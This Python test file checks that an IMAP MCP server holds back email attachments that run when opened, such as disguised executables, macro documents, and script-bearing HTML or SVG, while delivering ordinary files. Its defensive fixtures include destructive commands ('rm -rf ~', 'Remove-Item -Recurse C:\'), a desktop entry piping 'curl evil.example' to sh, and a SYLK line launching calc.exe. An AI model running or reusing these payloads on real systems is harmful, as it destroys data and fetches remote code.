"""Attachments that run when opened are held back by get_attachments and resources/read, on every IMAP server.

Two messages on the server: one carrying a corpus of disguised programs (extension tricks, a right-to-left
override, types that lie, program bytes under harmless names, scripts, macro-enabled Office files, disk images
and the other types issue 38 found delivered, HTML and SVG with script, a ZIP holding a program, a JAR whose
entry list only every byte shows), one carrying ordinary files (HTML and SVG without script among them). The
server's BODYSTRUCTURE (names, RFC 2231, types) and partial FETCH answers decide what the detector sees, so
these are matrix tests.
"""

from __future__ import annotations

import base64
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from executable_corpus import (
    DOCM,
    DOCX,
    DOCX_TYPE,
    ELF,
    HTML_PLAIN,
    HTML_SCRIPT,
    JAR,
    JPEG,
    LNK,
    MACH_O,
    PDF,
    PE,
    SVG_ONLOAD,
    SVG_PLAIN,
    padded_jar,
    zipped,
)
from harness import Account, append_message, served, structured
from mcp import Client
from mcp.shared.exceptions import MCPError
from mcp.types import EmbeddedResource

from imap_mcp.server.config import Settings
from imap_mcp.server.demo.sample_mail import TINY_PNG
from imap_mcp.server.imap.message_ids import MessageRef

pytestmark = [pytest.mark.anyio, pytest.mark.matrix]

SHELL = b"#!/bin/sh\nrm -rf ~\n"
OCTETS = "application/octet-stream"
#: (file name, declared type, bytes) of attachments that run when opened, each disguised some way
DISGUISED = [
    ("invoice.pdf.exe", "application/pdf", PDF),
    ("report.PDF   .scr", "application/pdf", PDF),
    ("photo\u202egpj.exe", "image/jpeg", JPEG),
    ("invoice.pdf", "application/pdf", PE),
    ("notes.txt", "text/plain", ELF),
    ("notes.txt", "text/plain", MACH_O),
    ("notes.txt", "text/plain", PE),
    ("notes.txt", "text/plain", SHELL),
    ("greeting.js", OCTETS, b"WScript.Echo('hi');\n"),
    ("greeting.vbs", OCTETS, b'MsgBox "hi"\n'),
    ("clean-up.ps1", OCTETS, b"Remove-Item -Recurse C:\\\n"),
    ("setup.bat", OCTETS, b"@echo off\r\n"),
    ("setup.cmd", OCTETS, b"@echo off\r\n"),
    ("screensaver.scr", OCTETS, PE),
    ("shortcut.lnk", OCTETS, LNK),
    ("tool.jar", "application/java-archive", JAR),
    ("install.msi", OCTETS, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)),
    ("Calculator.app", "application/zip", zipped("Contents/MacOS/Calculator")),
    ("budget.docm", DOCX_TYPE, DOCM),
    ("budget.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", zipped("xl/workbook.xml")),
    # what Windows, macOS and Linux mount or run on open (issue 38), markup with script, a ZIP holding a program
    ("disk.iso", OCTETS, bytes(64)),
    ("notebook.one", OCTETS, bytes(64)),
    ("prices.slk", "text/plain", b"ID;P\r\nC;X1;Y1;EMSEXCEL|'\\..\\calc.exe'!''\r\nE\r\n"),
    ("viewer.desktop", "text/plain", b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil.example|sh'\n"),
    ("invoice.html", "text/html", HTML_SCRIPT),
    ("logo.svg", "image/svg+xml", SVG_ONLOAD),
    ("photos.zip", "application/zip", zipped("photos/1.jpg", "photos/viewer.exe")),
]
#: a JAR named and typed as a ZIP: its first bytes are any ZIP's, its entry list (at its end) says it runs
LATE_JAR = ("report.zip", "application/zip", padded_jar())
#: ordinary files: delivered
HARMLESS = [
    ("report.pdf", "application/pdf", PDF),
    ("photo.png", "image/png", TINY_PNG),
    ("notes.txt", "text/plain", b"MZ is where we meet.\n"),
    ("letter.docx", DOCX_TYPE, DOCX),
    ("data.csv", "text/csv", "name,city\nJos\u00e9,Z\u00fcrich\n".encode()),
    ("minutes.html", "text/html", HTML_PLAIN),
    ("logo.svg", "image/svg+xml", SVG_PLAIN),
]


def mail_with(files: list[tuple[str, str, bytes]]) -> bytes:
    message = EmailMessage()
    message["From"] = "mallory@example.net"
    message["To"] = "demo@example.org"
    message["Subject"] = "Files"
    message.set_content("see attached\n")
    for name, declared, data in files:
        maintype, subtype = declared.split("/")
        message.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return message.as_bytes()


def part_ids(files: list[Any]) -> list[str]:
    """The part ids of `files` attached in order after the text (part 1)."""
    return [str(n) for n in range(2, len(files) + 2)]


def message_id(account: Account, files: list[tuple[str, str, bytes]]) -> str:
    uid = append_message(account, mail_with(files))
    client = account.imap()
    try:
        uidvalidity = int(client.select_folder("INBOX", readonly=True)[b"UIDVALIDITY"])
    finally:
        client.logout()
    return MessageRef("INBOX", uidvalidity, uid).id


def allowing(account: Account, **changes: Any) -> Settings:
    from dataclasses import replace

    return replace(account.settings(), allow_executable_attachments=True, **changes)


async def uris(client: Client, message: str) -> dict[str, str]:
    """part id -> the URI get_message lists for it."""
    content = structured(await client.call_tool("get_message", {"id": message}))
    return {a["part_id"]: a["uri"] for a in content["attachments"]}


async def test_get_message_says_which_attachments_run_from_their_name_type_and_first_bytes(account: Account) -> None:
    disguised, harmless = message_id(account, [*DISGUISED, LATE_JAR]), message_id(account, HARMLESS)
    async with served(account) as client:
        listed = structured(await client.call_tool("get_message", {"id": disguised}))["attachments"]
        ordinary = structured(await client.call_tool("get_message", {"id": harmless}))["attachments"]
    *judged, late = listed
    assert [a["part_id"] for a in listed] == part_ids([*DISGUISED, LATE_JAR])
    missed = [name for (name, _, _), a in zip(DISGUISED, judged, strict=True) if not a["executable"]]
    assert missed == []
    assert all(a["executable_reason"] for a in judged)
    assert "override" in judged[2]["executable_reason"] and "Windows" in judged[3]["executable_reason"]
    assert "#!" in judged[7]["executable_reason"]
    # its first bytes are any ZIP's: get_message cannot tell; the delivering tools read every byte (below)
    assert late["executable"] is False and late["executable_reason"] is None
    assert [(a["executable"], a["executable_reason"]) for a in ordinary] == [(False, None)] * len(HARMLESS)


async def test_get_attachments_holds_back_every_disguise_and_delivers_the_ordinary_files(account: Account) -> None:
    files = [*HARMLESS, *DISGUISED, LATE_JAR]
    message = message_id(account, files)
    async with served(account) as client:
        result = await client.call_tool("get_attachments", {"id": message})
    summary = structured(result)
    ids = part_ids(files)
    harmless_ids, held_ids = ids[: len(HARMLESS)], ids[len(HARMLESS) :]
    assert [f["part_id"] for f in summary["delivered"]] == harmless_ids
    assert all(f["executable"] is False for f in summary["delivered"])
    blobs = [base64.b64decode(b.resource.blob) for b in result.content if isinstance(b, EmbeddedResource)]  # type: ignore[union-attr]
    assert blobs == [data for _, _, data in HARMLESS]
    assert sorted(s["part_id"] for s in summary["skipped"]) == sorted(held_ids)
    for skipped in summary["skipped"]:
        assert skipped["executable"] is True and skipped["executable_reason"]
        assert skipped["reason"].startswith("held back: it may run when opened (")
        assert "IMAP_ALLOW_EXECUTABLE_ATTACHMENTS=true" in skipped["reason"]
    late = next(s for s in summary["skipped"] if s["part_id"] == ids[-1])
    assert "Java archive" in late["executable_reason"]


async def test_a_download_dir_gets_only_the_ordinary_files_and_no_trace_of_the_others(
    account: Account, tmp_path: Path
) -> None:
    from dataclasses import replace

    files = [*HARMLESS, *DISGUISED, LATE_JAR]
    message = message_id(account, files)
    async with served(replace(account.settings(), download_dir=tmp_path)) as client:
        summary = structured(await client.call_tool("get_attachments", {"id": message}))
    written = {Path(f["path"]).name: Path(f["path"]).read_bytes() for f in summary["delivered"]}
    assert written == {
        "report.pdf": PDF,
        "photo.png": TINY_PNG,
        "notes.txt": HARMLESS[2][2],
        "letter.docx": DOCX,
        "data.csv": HARMLESS[4][2],
        "minutes.html": HTML_PLAIN,
        "logo.svg": SVG_PLAIN,
    }
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(written)  # no partial file, no held-back file
    assert len(summary["skipped"]) == len(DISGUISED) + 1
    assert all(s["executable"] for s in summary["skipped"])


async def test_resources_read_refuses_every_disguise_and_returns_the_ordinary_files(account: Account) -> None:
    disguised, harmless = message_id(account, [*DISGUISED, LATE_JAR]), message_id(account, HARMLESS)
    refused: dict[str, MCPError] = {}
    async with served(account, mode="2026-07-28") as client:
        for part_id, uri in (await uris(client, disguised)).items():
            with pytest.raises(MCPError) as caught:
                await client.read_resource(uri)
            refused[part_id] = caught.value
        ordinary = [await client.read_resource(uri) for uri in (await uris(client, harmless)).values()]
    assert sorted(refused) == sorted(part_ids([*DISGUISED, LATE_JAR]))
    for error in refused.values():
        assert error.error.code == -32602 and "held back: it may run when opened" in error.error.message
        assert "IMAP_ALLOW_EXECUTABLE_ATTACHMENTS=true" in error.error.message
        assert error.error.data["uri"].startswith("imap://")
    assert [base64.b64decode(r.contents[0].blob) for r in ordinary] == [data for _, _, data in HARMLESS]  # type: ignore[union-attr]


async def test_with_executables_allowed_every_attachment_is_delivered_and_marked(account: Account) -> None:
    files = [DISGUISED[0], DISGUISED[4], LATE_JAR, HARMLESS[0]]
    message = message_id(account, files)
    async with served(allowing(account), mode="2026-07-28") as client:
        summary = structured(await client.call_tool("get_attachments", {"id": message}))
        read = await client.read_resource((await uris(client, message))["3"])
    assert [f["part_id"] for f in summary["delivered"]] == part_ids(files) and summary["skipped"] == []
    assert [f["executable"] for f in summary["delivered"]] == [True, True, True, False]
    assert "Java archive" in summary["delivered"][2]["executable_reason"]
    [contents] = read.contents
    assert base64.b64decode(contents.blob) == ELF  # type: ignore[union-attr]
    assert contents.meta is not None and "ELF" in contents.meta["executable_reason"]
